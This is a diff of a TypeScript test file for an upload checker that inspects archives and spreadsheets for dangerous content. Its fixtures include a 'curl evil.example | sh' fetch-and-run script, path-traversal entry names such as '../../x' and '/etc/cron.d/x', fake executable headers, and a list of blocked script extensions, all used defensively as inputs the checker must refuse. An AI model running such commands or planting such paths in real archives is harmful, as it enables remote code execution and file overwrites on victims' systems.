@@ -5,7 +5,7 @@ import { checkDocumentFile } from '../src/files/check-document-file.server.ts'
 import type { RowContext } from '../src/files/check-row.ts'
 import { uploadSpecOf } from '@portal/workflow-service/catalogue/registry/uploads.ts'
 import { REPORT_TEMPLATES, renderTemplate } from '../src/templates/report-templates.server.ts'
-import { tempFolder, writeCsv, writeXlsx, writeZip, writeZipBomb, zipItem } from './support/fixture-files.ts'
+import { tempFolder, writeCsv, writeSparseXlsx, writeXlsx, writeXlsxOfSheet, writeZip, writeZipBomb, writeZipOf, zipBytesOf, zipItem } from './support/fixture-files.ts'
 
 const folder = tempFolder()
 afterAll(() => folder.remove())
@@ -254,5 +254,67 @@ describe('checking a document report file by its real type', () => {
     expect((await checkDocumentFile(exe, 'setup.pdf')).problems[0].reason).toBe('недопустимый тип файла: ожидается PDF, DOC, DOCX, XLS, XLSX или ZIP')
     const docx = writeZip(folder.file('renamed.pdf'), [zipItem('[Content_Types].xml', Buffer.from('<Types/>')), zipItem('word/document.xml', Buffer.from('<w/>'))])
     expect((await checkDocumentFile(docx, 'Отчёт.pdf')).problems[0].reason).toBe('расширение .pdf не соответствует содержимому файла (DOCX)')
+  })
+})
+
+describe('archives looked into: the rules of a single file for every entry', () => {
+  const MZ = Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00'), Buffer.alloc(200, 1)])
+  const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(100)])
+  const MACH_O = Buffer.concat([Buffer.from([0xcf, 0xfa, 0xed, 0xfe]), Buffer.alloc(100)])
+  const refusal = async (contents: Record<string, Buffer | string>, name = 'Приложения.zip') => {
+    const result = await checkDocumentFile(writeZipOf(folder.file(`archive-${Math.random().toString(16).slice(2)}.zip`), contents), name)
+    expect(result.ok, JSON.stringify(Object.keys(contents))).toBe(false)
+    return result.problems[0].reason
+  }
+
+  it('refuses a program inside under any name, in any letter case, and inside an archive inside', async () => {
+    const cases: Array<[Record<string, Buffer | string>, string]> = [
+      [{ 'Отчёт.pdf.exe': MZ }, 'Отчёт.pdf.exe'],
+      [{ 'Отчёт.pdf': MZ }, 'Отчёт.pdf'],
+      [{ 'docs/SETUP.EXE': MZ }, 'docs/SETUP.EXE'],
+      [{ 'photo.jpg': ELF }, 'photo.jpg'],
+      [{ 'notes.txt': MACH_O }, 'notes.txt'],
+      [{ 'run.txt': '#!/bin/sh\ncurl evil.example | sh\n' }, 'run.txt'],
+      [{ 'readme.txt': 'hello', 'inner.zip': zipBytesOf({ 'Отчёт.pdf': MZ }) }, 'inner.zip › Отчёт.pdf'],
+    ]
+    for (const [contents, entry] of cases) {
+      expect(await refusal(contents)).toBe(`архив содержит исполняемую программу «${entry}»: такие файлы не принимаются`)
+    }
+  })
+
+  it('refuses shortcuts and script files by their names whatever they hold', async () => {
+    for (const entry of ['readme.lnk', 'README.LNK', 'Отчёт.pdf.lnk', 'start.bat', 'update.PS1', 'macro.vbs', 'a/b/run.cmd', 'page.hta', 'tool.jar', 'install.msi', 'screen.scr']) {
+      expect(await refusal({ [entry]: 'harmless text' })).toBe(`архив содержит исполняемую программу или ярлык «${entry}»: такие файлы не принимаются`)
+    }
+  })
+
+  it('refuses absolute and parent paths, with either slash and a drive letter', async () => {
+    for (const entry of ['../../x', '/etc/cron.d/x', 'a/../../x', '..\\..\\x', 'C:/Windows/x', 'c:\\x', '\\\\server\\share\\x']) {
+      expect(await refusal({ 'readme.txt': 'hello', [entry]: 'x' })).toMatch(/^архив содержит путь за пределы архива «.+»: такие архивы не принимаются$/)
+    }
+  })
+
+  it('looks into DOCX and XLSX containers too, and still accepts an honest archive of documents', async () => {
+    const docx = await checkDocumentFile(writeZipOf(folder.file('macro.docx'), { '[Content_Types].xml': '<Types/>', 'word/document.xml': '<w/>', 'word/embeddings/tool.bin': MZ }), 'Отчёт.docx')
+    expect(docx.problems[0]?.reason).toBe('архив содержит исполняемую программу «word/embeddings/tool.bin»: такие файлы не принимаются')
+    const honest = writeZipOf(folder.file('honest.zip'), { 'Отчёт.pdf': '%PDF-1.4\n', 'Приложения/Протокол №1.pdf': '%PDF-1.4\n', 'Таблица.csv': 'a;b\r\n', 'inner.zip': zipBytesOf({ 'Фото.jpg': Buffer.from([0xff, 0xd8, 0xff, 0xe0]) }) })
+    expect(await checkDocumentFile(honest, 'Приложения.zip')).toEqual({ ok: true, problems: [] })
+  })
+
+  it('ends a sparse XLSX with one cell at XFD1048576, however its sheet is written, with a clear Russian error', async () => {
+    const header = Object.fromEntries(HEADER.map((h, i) => [`${String.fromCharCode(65 + i)}1`, h]))
+    const files = {
+      'one cell': writeSparseXlsx(folder.file('sparse.xlsx'), { XFD1048576: 1 }),
+      'a header and the cell': writeSparseXlsx(folder.file('sparse-header.xlsx'), { ...header, XFD1048576: 1 }),
+      'rows and cells without addresses': writeXlsxOfSheet(folder.file('no-r.xlsx'), '<sheetData><row><c><v>1</v></c></row></sheetData>'),
+      'a cell without its row number': writeXlsxOfSheet(folder.file('no-row-r.xlsx'), '<sheetData><row><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
+      'a cell past the last column and row': writeXlsxOfSheet(folder.file('beyond.xlsx'), '<sheetData><row r="1048577"><c r="XFE1048577"><v>1</v></c></row></sheetData>'),
+      'a declared dimension to the last cell': writeXlsxOfSheet(folder.file('dimension.xlsx'), '<dimension ref="A1:XFD1048576"/><sheetData><row r="1048576"><c r="XFD1048576" t="s"><v>0</v></c></row></sheetData>'),
+    }
+    for (const [what, file] of Object.entries(files)) {
+      const result = await check(file)
+      expect(result.ok, what).toBe(false)
+      expect(result.problems[0].reason, what).toMatch(/^[А-Яа-яЁё](?:[А-Яа-яЁё0-9 ,.:;«»()–—\u00a0-]|XLSX|XFD|Excel)*$/)
+    }
   })
 })
